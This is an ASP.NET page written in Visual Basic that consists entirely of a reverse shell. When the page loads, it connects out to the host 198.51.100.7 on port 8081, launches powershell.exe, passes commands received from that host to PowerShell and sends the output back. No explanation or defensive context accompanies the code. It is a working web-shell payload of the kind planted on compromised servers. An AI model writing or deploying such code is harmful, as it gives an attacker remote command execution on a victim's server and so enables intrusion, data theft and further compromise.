<%@ Page Language="VB" %>
<%@ Import Namespace="System.Diagnostics" %>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    Dim sk As New Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp)
    sk.Connect(New IPEndPoint(IPAddress.Parse("198.51.100.7"), 8081))
    Dim ns As New NetworkStream(sk)
    Dim r As New System.IO.StreamReader(ns)
    Dim w As New System.IO.StreamWriter(ns)
    Dim si As New ProcessStartInfo("powershell.exe")
    si.UseShellExecute = False
    si.RedirectStandardInput = True
    si.RedirectStandardOutput = True
    Dim p As Process = Process.Start(si)
    Do
        Dim l As String = r.ReadLine()
        If l Is Nothing Then Exit Do
        p.StandardInput.WriteLine(l)
        w.Write(p.StandardOutput.ReadLine())
        w.Flush()
    Loop
End Sub
</script>
